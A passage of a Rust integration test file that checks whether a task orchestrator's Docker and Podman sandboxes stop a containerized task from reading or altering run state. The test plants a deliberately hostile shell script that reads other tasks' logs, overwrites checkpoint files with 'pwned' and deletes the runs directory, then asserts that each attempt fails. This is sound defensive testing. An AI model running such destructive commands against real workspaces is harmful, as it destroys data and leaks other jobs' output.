            assert!(left.is_empty(), "{}: {t} left containers behind: {left:?}", b.name());
        }
        // No engine: refused before anything runs, no run directory.
        std::fs::remove_dir_all(&runs).unwrap();
        let host = if b == Backend::Docker { "DOCKER_HOST" } else { "CONTAINER_HOST" };
        let o = run(&[(host, "unix:///nonexistent/engine.sock")]);
        assert_eq!(o.status.code(), Some(1), "{}: {}", b.name(), String::from_utf8_lossy(&o.stderr));
        assert!(!runs.exists(), "nothing may be created when the engine is missing");
    }
}

/// A containerized task of a run whose runs directory lies inside the
/// workspace cannot see or edit the run's state (it is covered by an empty
/// read-only tmpfs; `.orchestra/` is mounted read-only): the checkpoint and the
/// other task's log are unchanged and a canary in the run directory does not
/// leak.
#[test]
fn a_containerized_task_cannot_touch_the_run_directory() {
    for b in [Backend::Docker, Backend::Podman] {
        let e = env();
        container_setup();
        let policy = e.policy(&format!("runs-{}", b.name()), &format!("version: 1\nsandbox_mode: {}\n", b.name()));
        let config = e.policy("runs-config", "tools:\n  sh: {program: /bin/sh, shell: true, args: ['-c', '.*']}\n");
        let plan = e.root.join(format!("plan-runs-{}.yaml", b.name()));
        let first = format!("first-{}-{}", b.name(), std::process::id());
        let evil = format!("evil-{}-{}", b.name(), std::process::id());
        let script = "ls -R runs > seen.txt 2>&1; cat runs/*/logs/*.log >> seen.txt 2>&1; \
                      for f in runs/*/checkpoint.json runs/*/checkpoint.journal; do echo pwned > $f; done 2>/dev/null; \
                      rm -rf runs 2>/dev/null; mkdir -p runs/x 2>/dev/null; true";
        std::fs::write(
            &plan,
            format!(
                "tasks:\n- {{id: {first}, tool: sh, args: ['-c', 'echo CANARY-LOG-{first}']}}\n\
                 - {{id: {evil}, tool: sh, args: ['-c', '{script}'], needs: [{first}]}}\n"
            ),
        )
        .unwrap();
        chown_tree(&e.ws, 1000);
        container_setup();
        let o = e
            .command()
            .env("CI", "true")
            .arg("run")
            .arg(&plan)
            .arg("--config")
            .arg(&config)
            .arg("--policy")
            .arg(&policy)
            .output()
            .expect("orchestra run");
        let stderr = String::from_utf8_lossy(&o.stderr).into_owned();
        let runs = e.ws.join("runs");
        let run_dir = std::fs::read_dir(&runs)
            .unwrap()
            .flatten()
            .map(|d| d.path())
            .find(|p| p.is_dir() && p.join("checkpoint.json").is_file())
            .unwrap_or_else(|| panic!("{}: no run directory: {stderr}", b.name()));
        let cp = std::fs::read_to_string(run_dir.join("checkpoint.json")).unwrap();
        assert!(cp.contains("\"run_id\""), "{}: checkpoint overwritten: {cp}", b.name());
        let journal = std::fs::read_to_string(run_dir.join("checkpoint.journal")).unwrap_or_default();
        assert!(!journal.contains("pwned"), "{}: journal overwritten", b.name());
        let log = std::fs::read_to_string(run_dir.join(format!("logs/{first}.log"))).unwrap();
        assert!(
            log.contains(&format!("CANARY-LOG-{first}")),
            "{}: the first task's log was lost: {log}\n{stderr}",
            b.name()
        );
        let seen = std::fs::read_to_string(e.ws.join("seen.txt")).unwrap_or_default();
        assert!(!seen.contains("CANARY-LOG"), "{}: the task read another task's log: {seen}", b.name());
        assert!(!runs.join("x").exists(), "{}: the task wrote into runs/", b.name());
        let report: serde_json::Value =
            serde_json::from_slice(&std::fs::read(run_dir.join("report.json")).unwrap()).unwrap();
        assert_eq!(report["tasks"][0]["state"], "succeeded", "{}: {report:#}", b.name());
        assert_eq!(o.status.code(), Some(0), "{}: {stderr}", b.name());
    }
}
